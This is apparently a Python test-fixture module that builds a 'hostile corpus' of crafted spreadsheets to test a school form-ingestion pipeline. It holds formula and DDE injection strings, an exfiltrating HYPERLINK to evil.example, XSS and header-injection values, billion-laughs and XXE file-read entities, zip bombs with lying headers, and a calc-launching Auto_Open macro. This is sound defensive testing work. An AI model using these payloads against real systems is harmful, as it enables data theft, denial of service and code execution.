"""The hostile corpus: every file is built here from a school's real template, so a reader sees
exactly which bytes were changed and why.

Zip members are rewritten with `rezip`; archives whose headers lie are written by hand with
`raw_zip` (zipfile refuses to write an inconsistent archive).
"""
from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib

from pipeline.generate import SHEET_META, build_template
from devtools.simulate import clean_answers

# Payloads a school can type, paste or put in a file name / sheet name / property.
FORMULA = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"クリック\")"
DDE = "=cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
HTML = "<script>alert('x')</script><img src=x onerror=alert(1)>"
MARKDOWN = "| 偽の列 | <b>太字</b> [リンク](javascript:alert(1)) ![](http://evil.example/p.png)"
HEADER = "件名\r\nBcc: victim@example.com\r\n\r\n本文"
PAYLOADS = (FORMULA, DDE, PLUS, MINUS, AT, TAB, HTML, MARKDOWN, HEADER)
# Sheet names may not contain []:*?/\ and are at most 31 characters.
SHEET_PAYLOADS = ("=1+1", "<img src=x onerror=alert(1)>", "@SUM(1)", "+cmd|' C calc'!A0")

SECRET = "HOSTILE-SECRET-7f3a"  # written to a file outside the inbox; must never appear in an output


def filled(definition, school, seed: int = 1, **overrides) -> bytes:
    answers = clean_answers(definition, school, random.Random(seed))
    answers.update(overrides)
    answers = {k: v for k, v in answers.items() if v is not None}
    return build_template(definition, school, answers=answers).content


def members(content: bytes) -> list[str]:
    return zipfile.ZipFile(io.BytesIO(content)).namelist()


def rezip(content: bytes, edits: dict, add: dict | None = None, drop: tuple = ()) -> bytes:
    """The same archive with members rewritten (name -> fn(bytes) -> bytes), added or dropped."""
    src = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            data = src.read(info)
            if info.filename in edits:
                data = edits[info.filename](data)
            dst.writestr(info, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def sheet_member(content: bytes, sheet: str) -> str:
    z = zipfile.ZipFile(io.BytesIO(content))
    wb = z.read("xl/workbook.xml").decode()
    rid = re.search(rf'<sheet name="{re.escape(sheet)}" sheetId="\d+"(?: state="\w+")? r:id="(rId\d+)"', wb).group(1)
    rels = z.read("xl/_rels/workbook.xml.rels").decode()
    target = re.search(rf'Id="{rid}"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="{rid}"', rels)
    return "xl/" + (target.group(1) or target.group(2)).lstrip("/").removeprefix("xl/")


# ---------------------------------------------------------------- XML entities


def _with_doctype(xml: bytes, doctype: str, use: str) -> bytes:
    """Insert a DOCTYPE after the XML declaration and an entity reference in the first text node."""
    decl_end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    xml = xml[:decl_end] + doctype.encode() + xml[decl_end:]
    m = re.search(rb">([^<]+)<", xml[decl_end + len(doctype):])
    if m:
        at = decl_end + len(doctype) + m.start(1)
        xml = xml[:at] + use.encode() + xml[at:]
    return xml


def billion_laughs(root: str) -> str:
    ents = ['<!ENTITY lol "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                                      for i in range(1, 10)]
    return f"<!DOCTYPE {root} [{''.join(ents)}]>"


def entity_bomb(content: bytes, member: str) -> bytes:
    """The billion laughs in one member: 10^9 'lol's if a parser expands entities."""
    root = re.search(rb"<(?!\?)(?:\w+:)?(\w+)", zipfile.ZipFile(io.BytesIO(content)).read(member)).group(1).decode()
    return rezip(content, {member: lambda x: _with_doctype(x, billion_laughs(root), "&lol9;")})


def external_entity(content: bytes, member: str, target: str) -> bytes:
    """XXE: an external entity naming a file outside the inbox, referenced from the member's text."""
    root = re.search(rb"<(?!\?)(?:\w+:)?(\w+)", zipfile.ZipFile(io.BytesIO(content)).read(member)).group(1).decode()
    doctype = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{target}">]>'
    return rezip(content, {member: lambda x: _with_doctype(x, doctype, "&xxe;")})


def entity_in_answer(content: bytes, sheet_xml_member: str, target: str) -> bytes:
    """XXE placed where calamine reads a value: an inline-string answer cell made of an entity."""
    doctype = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{target}"><!ENTITY lol "lol">]>'

    def edit(x: bytes) -> bytes:
        decl_end = x.index(b"?>") + 2
        x = x[:decl_end] + doctype.encode() + x[decl_end:]
        # every shared-string cell becomes an inline string holding the entities
        return re.sub(rb'<c r="([A-Z]+[0-9]+)"([^>]*?) t="s"([^>]*)><v>[0-9]+</v></c>',
                      rb'<c r="\1"\2 t="inlineStr"\3><is><t>&xxe;&lol;</t></is></c>', x)
    return rezip(content, {sheet_xml_member: edit})


# ---------------------------------------------------------------- archives


def _local_header(name: bytes, method: int, crc: int, csize: int, usize: int) -> bytes:
    return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, method, 0, 0x21, crc, csize, usize, len(name), 0) + name


def raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """An archive written by hand: (name, stored bytes, method, crc, declared size) per member, so
    that headers may lie about the size or the checksum."""
    out, central = bytearray(), bytearray()
    for name, stored, method, crc, usize in entries:
        nb = name.encode()
        offset = len(out)
        out += _local_header(nb, method, crc, len(stored), usize) + stored
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, method, 0, 0x21, crc, len(stored),
                               usize, len(nb), 0, 0, 0, 0, 0, offset) + nb
    cd_offset = len(out)
    out += central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central),
                                 cd_offset, 0)
    return bytes(out)


def deflate(data_chunks, level: int = 9) -> tuple[bytes, int, int]:
    """(raw deflate stream, crc32, size) of an iterable of chunks, without holding the inflated data."""
    c = zlib.compressobj(level, zlib.DEFLATED, -15)
    out, crc, size = [], 0, 0
    for chunk in data_chunks:
        out.append(c.compress(chunk))
        crc = zlib.crc32(chunk, crc)
        size += len(chunk)
    out.append(c.flush())
    return b"".join(out), crc, size


def _workbook_entries(content: bytes) -> list[tuple[str, bytes, int, int, int]]:
    z = zipfile.ZipFile(io.BytesIO(content))
    entries = []
    for info in z.infolist():
        data = z.read(info)
        stored, crc, size = deflate([data])
        entries.append((info.filename, stored, 8, crc, size))
    return entries


def bomb_in_member(content: bytes, member: str, size: int, *, lie: bool) -> bytes:
    """Replace one member with `size` bytes that compress ~1000:1 (a valid XML prefix, then spaces).

    lie=False: the headers declare the true size. lie=True: they declare the original member's
    size and its checksum, as a bomb aimed at readers that trust the header would.
    """
    entries = _workbook_entries(content)
    for n, (name, stored, method, crc, usize) in enumerate(entries):
        if name != member:
            continue
        original = zipfile.ZipFile(io.BytesIO(content)).read(member)
        chunk = b" " * (1 << 20)
        head = original
        chunks = [head] + [chunk] * ((size - len(head)) // len(chunk))
        bstored, bcrc, bsize = deflate(chunks, level=6)
        entries[n] = (name, bstored, 8, crc if lie else bcrc, usize if lie else bsize)
    return raw_zip(entries)


def broken_crc(content: bytes, member: str) -> bytes:
    """The member's data intact but its checksum wrong in both headers."""
    return raw_zip([(n, s, m, (c ^ 0xFFFF) if n == member else c, u) for n, s, m, c, u in _workbook_entries(content)])


def truncated(content: bytes, fraction: float) -> bytes:
    return content[:int(len(content) * fraction)]


def flipped(content: bytes, member: str) -> bytes:
    """A byte flipped inside a member's compressed data (a disk or mail transfer error)."""
    z = zipfile.ZipFile(io.BytesIO(content))
    info = z.getinfo(member)
    name_len, extra_len = struct.unpack_from("<HH", content, info.header_offset + 26)
    at = info.header_offset + 30 + name_len + extra_len + info.compress_size // 2
    b = bytearray(content)
    b[at] ^= 0x5A
    return bytes(b)


def far_cell(content: bytes, member: str, ref: str = "XFD1048576") -> bytes:
    """A value in the last cell of the sheet (a stray keystroke after Ctrl+End)."""
    row = re.fullmatch(r"[A-Z]+([0-9]+)", ref).group(1)
    return rezip(content, {member: lambda x: x.replace(
        b"</sheetData>", f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'.encode())})


def ods_far(columns: int, rows: int) -> bytes:
    """An .ods whose one row is repeated `rows` times with a value in `columns` repeated cells."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="表紙">'
        f'<table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" office:value="1">'
        '<text:p>1</text:p></table:table-cell></table:table-row>'
        '</table:table></office:spreadsheet></office:body></office:document-content>')
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def ods_encrypted() -> bytes:
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
                'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="1000">'
                '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
                '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" manifest:initialisation-vector="AAAA"/>'
                '<manifest:key-derivation manifest:key-derivation-name="PBKDF2" manifest:iteration-count="1024" manifest:salt="AAAA"/>'
                '</manifest:encryption-data></manifest:file-entry></manifest:manifest>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        z.writestr("content.xml", bytes(random.Random(0).randbytes(1000)), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def encrypted_ole2() -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE2 compound file holding the streams
    EncryptionInfo and EncryptedPackage (directory only; the streams' contents do not matter)."""
    end, free, fat_sect, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 0x28, 0, 1, 1, 0, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *([free] * 108))
    fat = struct.pack("<128I", fat_sect, end, *([free] * 126))

    def entry(name: str, kind: int, child=nostream, right=nostream) -> bytes:
        raw = name.encode("utf-16-le") + b"\x00\x00"
        e = bytearray(128)
        e[0:len(raw)] = raw
        struct.pack_into("<HBB", e, 64, len(raw), kind, 1)
        struct.pack_into("<III", e, 68, nostream, right, child)
        struct.pack_into("<II", e, 116, end, 0)
        return bytes(e)

    directory = entry("Root Entry", 5, child=1) + entry("EncryptionInfo", 2, right=2) + \
        entry("EncryptedPackage", 2) + bytes(128)
    return bytes(header) + fat + directory


def ole2_loop() -> bytes:
    """An OLE2 header whose directory chain points at itself forever."""
    b = bytearray(encrypted_ole2())
    struct.pack_into("<I", b, 512, 0)  # FAT[0] (the directory sector) -> 0: a cycle
    return bytes(b)


# ---------------------------------------------------------------- macros, names, properties


VBA_CONTENT_TYPE = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'


def with_macro(content: bytes) -> bytes:
    """Our template saved as .xlsm with a macro project (an Auto_Open that would run calc)."""
    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\nShell \"calc.exe\"\r\nEnd Sub\r\n"

    def types(x: bytes) -> bytes:
        x = x.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                      b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
        return x.replace(b"<Default Extension=\"xml\"", VBA_CONTENT_TYPE + b"<Default Extension=\"xml\"", 1)

    def rels(x: bytes) -> bytes:
        return x.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/'
                         b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    return rezip(content, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
                 add={"xl/vbaProject.bin": vba})


def rename_sheet(content: bytes, old: str, new: str) -> bytes:
    """A sheet renamed the way Excel does it: the tab and every defined name that refers to it."""
    def esc(s: str) -> str:
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")

    def wb(x: bytes) -> bytes:
        t = x.decode()
        t = t.replace(f'<sheet name="{esc(old)}"', f'<sheet name="{esc(new)}"')
        quoted = "'" + new.replace("'", "''") + "'"
        t = t.replace(f"'{old}'!", esc(quoted) + "!").replace(f">{old}!", ">" + esc(quoted) + "!")
        return t.encode()
    return rezip(content, {"xl/workbook.xml": wb})


def with_properties(content: bytes, text: str) -> bytes:
    """Document properties (title, subject, creator, keywords, description, last saved by) set to `text`."""
    e = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

    def core(x: bytes) -> bytes:
        x = re.sub(rb"<dc:creator>.*?</dc:creator>", b"", x)
        extra = (f"<dc:title>{e}</dc:title><dc:subject>{e}</dc:subject><dc:creator>{e}</dc:creator>"
                 f"<cp:keywords>{e}</cp:keywords><dc:description>{e}</dc:description>"
                 f"<cp:lastModifiedBy>{e}</cp:lastModifiedBy>").encode()
        return x.replace(b"</cp:coreProperties>", extra + b"</cp:coreProperties>")

    def app(x: bytes) -> bytes:
        return re.sub(rb"<Company>.*?</Company>|</Properties>",
                      lambda m: f"<Company>{e}</Company>".encode() + (b"</Properties>" if m.group(0) == b"</Properties>" else b""),
                      x, count=1)
    edits = {"docProps/core.xml": core}
    if "docProps/app.xml" in members(content):
        edits["docProps/app.xml"] = app
    return rezip(content, edits)


def with_meta(content: bytes, **changes) -> bytes:
    """The _meta sheet rewritten (a tampered template)."""
    import python_calamine

    rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name(SHEET_META).to_python()
    meta = {str(k): str(v) for k, v in rows}
    meta.update(changes)

    def x(s: str) -> str:
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{x(k)}</t></is></c><c r="B{n}" t="inlineStr"><is><t>{x(v)}</t></is></c></row>'
        for n, (k, v) in enumerate(meta.items(), start=1))
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           f"<sheetData>{cells}</sheetData></worksheet>").encode()
    return rezip(content, {sheet_member(content, SHEET_META): lambda _: xml})
